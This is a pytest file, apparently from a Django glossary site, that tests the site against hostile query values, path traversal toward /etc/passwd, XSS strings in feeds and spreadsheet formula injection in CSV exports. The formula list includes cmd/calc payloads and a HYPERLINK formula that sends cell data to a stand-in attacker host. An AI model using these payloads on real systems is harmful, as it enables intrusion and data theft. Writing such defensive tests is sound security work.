"""The adversarial suite (issue 26): classes of hostile input kept closed as a whole,
beside the tests of each finding in the module it concerns.

- Parameters: every public GET parameter, and the path segments a visitor chooses,
  with a short list of hostile values: never a 5xx (nor the 503 "back soon" page,
  which would say the database is down) and no traceback in the log.
- Feeds: every attack string of the XSS corpus, with control characters stored
  beside it, goes out as the literal text in valid XML.
- Exports: no cell of a CSV export starts a spreadsheet formula, and importing
  the export gives back exactly what was exported.
"""

import csv
import logging
import xml.etree.ElementTree as ET
from io import StringIO
from urllib.parse import quote

import feedparser
import pytest
from bs4 import BeautifulSoup
from django.core.management import call_command

from articles.models import Article, Author, Tag
from glossary_site.content.characters import without_refused
from glossary_site.exchange.records import record_of
from glossary_site.serving import pagecache
from glossary_site.testing.xss_corpus import PAYLOADS
from terms.models import Term, TermAlias

HOSTILE_VALUES = [
    "100000000000000000000",  # past any database's integer
    "9" * 5000,  # past Python's int() digit limit
    "-1",
    "0",
    "1e400",
    "NaN",
    "²",  # a digit to str.isdigit(), not to int()
    "٣",  # an Arabic-Indic three: a digit to int()
    "\x00",
    "\x01\x1b[31m\x7f",
    "x" * 10_240,
    "[" * 500 + "]" * 500,
    "a[b][c]",
    "'\"<script>alert(1)</script>",
    "%",
    "0001-01-01T00:00:00+05:00",
    "9999-12-31T23:59:59-05:00",
]
# Bytes no UTF-8 text holds, as raw query strings: a lone surrogate and a stray byte.
RAW_VALUES = ["%ED%A0%80", "%FF%FE", "%C0%AF"]

# Every address a visitor reaches with a query string, and the parameters it reads
# (or ignores: an ignored one must be harmless too).
PUBLIC_PARAMETERS = {
    "/": ["page"],
    "/search/": ["q", "page", "literal", "from"],
    "/search/suggest/": ["q"],
    "/glossary/": ["page"],
    "/glossary/letter/c/": ["page"],
    "/glossary/cache/": ["page"],
    "/glossary/cache/related/": ["page"],
    "/glossary/feed/": ["page"],
    "/blog/": ["page"],
    "/blog/tag/databases/": ["page"],
    "/blog/author/ada/": ["page"],
    "/blog/scaling-reads/": ["page"],
    "/blog/feed/": ["page"],
    "/blog/feed/atom/": ["page"],
    "/sitemap.xml": ["p"],
    "/sitemap-terms.xml": ["p"],
    "/robots.txt": ["q"],
    "/embed/": ["q"],
    "/embed/glossary.js": ["v"],
    "/api/": ["q"],
    "/api/openapi.json": ["format"],
    "/api/terms/": ["q", "page", "updated_since", "sort"],
    "/api/terms/cache/": ["format"],
}
# Where a visitor chooses a path segment: the hostile value goes in place of "{}".
PATH_SEGMENTS = [
    "/glossary/letter/{}/",
    "/glossary/{}/",
    "/blog/{}/",
    "/blog/tag/{}/",
    "/review/{}/",
    "/api/terms/{}/",
    "/api/{}",
    "/{}",
]


@pytest.fixture
def site(make_term, make_article, settings):
    settings.API_RATE_LIMIT = 0  # every request here is from one address
    cache = make_term(title="Cache", slug="cache", summary="A store of copies.")
    ledger = make_term(title="Ledger", slug="ledger", summary="A book of accounts.")
    cache.related.add(ledger)
    TermAlias.objects.create(term=cache, name="Caching", slug="caching")
    article = make_article(
        title="Scaling reads",
        slug="scaling-reads",
        author=Author.objects.create(name="Ada", slug="ada"),
        body="## Replicas\n\nA cache in front of the database.",
    )
    article.tags.add(Tag.objects.create(name="Databases", slug="databases"))


def tracebacks(caplog):
    return [record for record in caplog.records if record.exc_info or record.levelno >= logging.ERROR]


def answers(client, caplog, urls):
    """(url, status) of every URL answered 5xx or with a traceback logged."""
    failed = []
    for url in urls:
        caplog.clear()
        status = client.get(url).status_code
        if status >= 500 or tracebacks(caplog):
            failed.append((url[:120], status, [r.getMessage()[:200] for r in tracebacks(caplog)]))
    return failed


@pytest.mark.parametrize("path", PUBLIC_PARAMETERS)
def test_every_public_parameter_takes_hostile_values_without_a_5xx_or_a_traceback(site, client, caplog, path):
    names = PUBLIC_PARAMETERS[path]
    urls = [f"{path}?{name}={quote(value)}" for name in names for value in HOSTILE_VALUES]
    urls += [f"{path}?{name}={raw}" for name in names for raw in RAW_VALUES]
    urls += [f"{path}?{names[0]}=1&{names[0]}=2", f"{path}?{quote('[' * 200)}=1", f"{path}?{'a=1&' * 900}"]
    with caplog.at_level(logging.INFO):
        assert answers(client, caplog, urls) == []


def test_hostile_path_segments_answer_without_a_5xx_or_a_traceback(site, client, caplog):
    segments = [quote(value, safe="") for value in HOSTILE_VALUES] + RAW_VALUES + ["..%2F..%2Fetc%2Fpasswd"]
    urls = [pattern.format(segment) for pattern in PATH_SEGMENTS for segment in segments]
    with caplog.at_level(logging.INFO):
        assert answers(client, caplog, urls) == []


@pytest.mark.parametrize(
    ("url", "named"),
    [
        ("/search/suggest/?q=ca%00che", "The parameter 'q'"),
        ("/api/terms/?q=%00", "The parameter 'q'"),
        ("/blog/?%00=1", "The parameter '\\x00'"),
        ("/glossary/letter/%00/", "The address"),
        ("/%00", "The address"),
    ],
)
def test_a_nul_character_is_a_400_before_any_lookup(site, client, caplog, url, named):
    # PostgreSQL text cannot hold it: a lookup by it failed there as a "database down" 503.
    response = client.get(url)
    assert response.status_code == 400
    assert response.content.decode().startswith(f"{named} holds a NUL character.")
    assert tracebacks(caplog) == []


def test_an_api_parameter_error_names_the_parameter(site, client):
    for name in ("page", "updated_since"):
        for value in HOSTILE_VALUES:
            response = client.get(f"/api/terms/?{name}={quote(value)}")
            if response.status_code == 400:
                json = response["Content-Type"] == "application/json"
                message = response.json()["message"] if json else response.content.decode()
                assert name in message, (name, value, message)
            else:
                assert response.status_code == 200, (name, value, response.status_code)


# --- feeds ----------------------------------------------------------------------------
FEED_SIZE = 20  # the smallest number of items a feed of ours shows


def stored_summaries(payloads):
    """Payloads as stored summaries, each with a control character as data from before
    the validator could hold (written past it, straight to the rows)."""
    return [f"{payload}\x01\ufffe end" for payload in payloads]


@pytest.mark.parametrize("url", ["/glossary/feed/", "/blog/feed/", "/blog/feed/atom/"])
def test_every_attack_string_goes_out_in_a_feed_as_literal_text_in_valid_xml(
    make_term, make_article, client, url
):
    model, make = (Term, make_term) if url.startswith("/glossary/") else (Article, make_article)
    items = [make(title=f"Item {n}", slug=f"item-{n}") for n in range(FEED_SIZE)]
    for start in range(0, len(PAYLOADS), FEED_SIZE):
        summaries = stored_summaries(PAYLOADS[start : start + FEED_SIZE])
        for item, summary in zip(items, summaries, strict=False):
            model.objects.filter(pk=item.pk).update(summary=summary, title=summary[:200])
        pagecache.clear()  # the rows changed behind the page cache's back

        response = client.get(url)

        assert response.status_code == 200, start
        ET.fromstring(response.content)  # well-formed XML 1.0, or this raises
        feed = feedparser.parse(response.content)
        assert not feed.bozo, (start, feed.get("bozo_exception"))
        expected = {without_refused(summary) for summary in summaries}
        seen = {_as_read(entry) for entry in feed.entries}
        assert expected <= seen, start


def _as_read(entry):
    """What a reader sees of an entry's summary: Atom's text as it is, RSS's HTML shown."""
    if entry.summary_detail.type == "text/plain":
        return entry.summary
    shown = BeautifulSoup(entry.summary, "html.parser")
    assert shown.find() is None, entry.summary  # no element: the words, not markup
    return shown.get_text()


# --- exports ------------------------------------------------------------------------
FORMULAS = [
    "=1+1",
    '=HYPERLINK("https://evil.example/?"&A1,"Click")',
    "=cmd' /C calc'!A0",
    "+1+cmd' /C calc'!A0",
    "-2+3+cmd' /C calc'!A0",
    "@SUM(1+1)*cmd' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "'=1+1",
    "''@x",
    "'''-x",
    "'Tis",
]


def test_no_exported_cell_starts_a_formula_and_a_round_trip_changes_nothing(tmp_path, make_term):
    for n, formula in enumerate(FORMULAS):
        term = make_term(
            title=f"{formula[:1]}Term {n}",
            slug=f"term-{n}",
            summary=formula,
            body=f"{formula}\n\nMore.",
            never_link_in=formula,
        )
        # Spaces around a list entry are trimmed on import (spreadsheet.py), so no
        # alias name here starts with a tab or a carriage return.
        TermAlias.objects.create(term=term, name=f"{formula.strip()[:1]}alias {n}", slug=f"alias-{n}")
    before = {term.slug: record_of(term) for term in Term.objects.prefetch_related("aliases", "related")}
    path = tmp_path / "glossary.csv"

    for _ in range(2):
        call_command("export_content", path, stdout=StringIO())
        cells = [
            cell for row in list(csv.reader(path.open(encoding="utf-8", newline="")))[1:] for cell in row
        ]
        assert [cell for cell in cells if cell.startswith(("=", "+", "-", "@", "\t", "\r"))] == []
        Term.objects.all().delete()
        call_command("import_content", path, stdout=StringIO())
        after = {term.slug: record_of(term) for term in Term.objects.prefetch_related("aliases", "related")}
        assert after == before
